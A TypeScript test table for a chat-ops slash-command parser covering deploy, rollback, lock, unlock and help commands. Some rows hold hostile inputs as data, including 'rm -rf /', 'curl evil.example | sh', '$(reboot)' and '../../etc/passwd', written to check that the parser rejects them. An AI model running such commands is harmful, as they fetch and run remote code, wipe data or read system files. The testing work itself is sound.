import { describe, expect, it } from "vitest";
import { isCommand, parseCommand, type Command } from "../shared/commands/grammar.js";

const ENVS = ["staging", "production"];
const ok = (command: Command) => ({ command });
const bad = (words: string) => ({ error: { reasonCode: "bad_command", message: expect.stringContaining(words) } });

const TABLE: Array<[string, unknown]> = [
  // deploy
  ["/deploy", ok({ kind: "deploy", dryRun: false })],
  ["/deploy production", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy staging", ok({ kind: "deploy", environment: "staging", dryRun: false })],
  ["/DEPLOY production", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/Deploy Production", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy production --dry-run", ok({ kind: "deploy", environment: "production", dryRun: true })],
  ["/deploy --dry-run production", ok({ kind: "deploy", environment: "production", dryRun: true })],
  ["/deploy --dry-run", ok({ kind: "deploy", dryRun: true })],
  ["/deploy --DRY-RUN", ok({ kind: "deploy", dryRun: true })],
  ["/deploy production --override-freeze", ok({ kind: "deploy", environment: "production", dryRun: false, overrideFreeze: true })],
  ["/deploy production --override-freeze --override-freeze", bad("Unexpected `--override-freeze`")],
  ["   /deploy production   ", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["\n\n  \n/deploy production", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy\tproduction", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy    production", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy production\nplease ship it, and /rollback if it breaks", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy production\r\nthanks", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy\u00a0production", ok({ kind: "deploy", environment: "production", dryRun: false })],
  ["/deploy prod", bad("`prod` is not an environment")],
  ["/deploy production staging", bad("Unexpected `staging`")],
  ["/deploy production --dry-run --dry-run", bad("Unexpected `--dry-run`")],
  ["/deploy production --force", bad("Unexpected `--force`")],
  ["/deploy --force", bad("Unexpected `--force`")],
  ["/deploy production;", bad("`production;` is not an environment")],
  ["/deploy production; rm -rf /", bad("`production;` is not an environment")],
  ["/deploy $(curl evil.example | sh)", bad("`$(curl` is not an environment")],
  ["/deploy `id`", bad("`'id'` is not an environment")],
  ["/deploy production && curl evil.example", bad("Unexpected `&&`")],
  ["/deploy production | sh", bad("Unexpected `|`")],
  ["/deploy ../../etc/passwd", bad("is not an environment")],
  ["/deploy production\u200b", bad("is not an environment")],
  ["/deploy " + "x".repeat(5000), bad("is not an environment")],
  ["/deploy staging, production", bad("`staging,` is not an environment")],
  // rollback
  ["/rollback", ok({ kind: "rollback" })],
  ["/rollback production", ok({ kind: "rollback", environment: "production" })],
  ["/ROLLBACK Staging", ok({ kind: "rollback", environment: "staging" })],
  ["/rollback production to abc1234", ok({ kind: "rollback", environment: "production", target: { kind: "sha", sha: "abc1234" } })],
  ["/rollback to ABC1234DEF", ok({ kind: "rollback", target: { kind: "sha", sha: "abc1234def" } })],
  [`/rollback to ${"a".repeat(40)}`, ok({ kind: "rollback", target: { kind: "sha", sha: "a".repeat(40) } })],
  [`/rollback to ${"1".repeat(40)}`, ok({ kind: "rollback", target: { kind: "sha", sha: "1".repeat(40) } })],
  ["/rollback production to v1.2.3", ok({ kind: "rollback", environment: "production", target: { kind: "tag", tag: "v1.2.3" } })],
  ["/rollback to release/2026-11", ok({ kind: "rollback", target: { kind: "tag", tag: "release/2026-11" } })],
  ["/rollback production to 123456789", ok({ kind: "rollback", environment: "production", target: { kind: "deployment", id: 123456789 } })],
  ["/rollback TO 42", ok({ kind: "rollback", target: { kind: "deployment", id: 42 } })],
  ["/rollback production to", bad("`to` needs a SHA")],
  ["/rollback to abc1234 now", bad("Unexpected `now`")],
  ["/rollback production abc1234", bad("Unexpected `abc1234`")],
  ["/rollback prod", bad("`prod` is not an environment")],
  ["/rollback to -rf", bad("`-rf` is not a SHA")],
  ["/rollback to v1..2", bad("is not a SHA")],
  ["/rollback to $(reboot)", bad("is not a SHA")],
  ["/rollback to main;reboot", bad("is not a SHA")],
  ["/rollback to 0", ok({ kind: "rollback", target: { kind: "tag", tag: "0" } })],
  ["/rollback to .hidden", bad("is not a SHA")],
  ["/rollback to refs.lock", bad("is not a SHA")],
  // lock / unlock
  ["/lock", ok({ kind: "lock", reason: "" })],
  ["/lock production", ok({ kind: "lock", environment: "production", reason: "" })],
  ["/lock production incident 4521: payments down", ok({ kind: "lock", environment: "production", reason: "incident 4521: payments down" })],
  ["/lock database migration in progress", ok({ kind: "lock", reason: "database migration in progress" })],
  ["/LOCK staging   two   spaces", ok({ kind: "lock", environment: "staging", reason: "two spaces" })],
  ["/lock production $(rm -rf /) `id` @everyone", ok({ kind: "lock", environment: "production", reason: "$(rm -rf /) `id` @everyone" })],
  ["/lock production " + "r".repeat(201), bad("at most 200")],
  ["/unlock", ok({ kind: "unlock" })],
  ["/unlock production", ok({ kind: "unlock", environment: "production" })],
  ["/Unlock STAGING", ok({ kind: "unlock", environment: "staging" })],
  ["/unlock production now", bad("Unexpected `now`")],
  ["/unlock prod", bad("`prod` is not an environment")],
  // help
  ["/help", ok({ kind: "help" })],
  ["/HELP", ok({ kind: "help" })],
  ["/help me", bad("takes no arguments")],
  // not commands at all
  ["", null],
  ["   \n\t\n", null],
  ["LGTM", null],
  ["Please /deploy production", null],
  ["Looks good\n/deploy production", null],
  ["/deployment production", null],
  ["/deploy-production", null],
  ["/rollbacks", null],
  ["/locks", null],
  ["//deploy", null],
  ["deploy production", null],
  ["\\/deploy production", null],
  ["`/deploy production`", null],
  ["> /deploy production", null],
  ["／deploy production", null],
  ["/dep\u200bloy production", null],
  ["/ deploy", null],
  ["/shipit", null],
];

describe("parseCommand", () => {
  it("covers every command kind, a refusal for each, and text that is no command", () => {
    const kinds = new Set(TABLE.map(([, e]) => (e as { command?: Command } | null)?.command?.kind).filter(Boolean));
    expect([...kinds].sort()).toEqual(["deploy", "help", "lock", "rollback", "unlock"]);
    for (const kind of kinds) expect(TABLE.some(([text, e]) => String(text).toLowerCase().includes(`/${kind}`) && (e as { error?: unknown } | null)?.error)).toBe(true);
    expect(TABLE.some(([, e]) => e === null)).toBe(true);
  });

  it.each(TABLE)("%j", (text, expected) => {
    expect(parseCommand(text, ENVS)).toEqual(expected);
    // isCommand is the zero-request pre-check: it must agree on what is a command at all.
    expect(isCommand(text)).toBe(expected !== null);
  });

  it("lists the environments in every error about one", () => {
    const result = parseCommand("/deploy prod", ENVS);
    expect(result).toEqual({ error: { reasonCode: "bad_command", message: "`prod` is not an environment. Usage: `/deploy [environment] [--dry-run]`; environments: `staging`, `production`." } });
  });

  it("reads only the first line of a very long comment", () => {
    const long = `/deploy staging\n${"lorem ipsum ".repeat(100_000)}`;
    expect(parseCommand(long, ENVS)).toEqual(ok({ kind: "deploy", environment: "staging", dryRun: false }));
  });
});
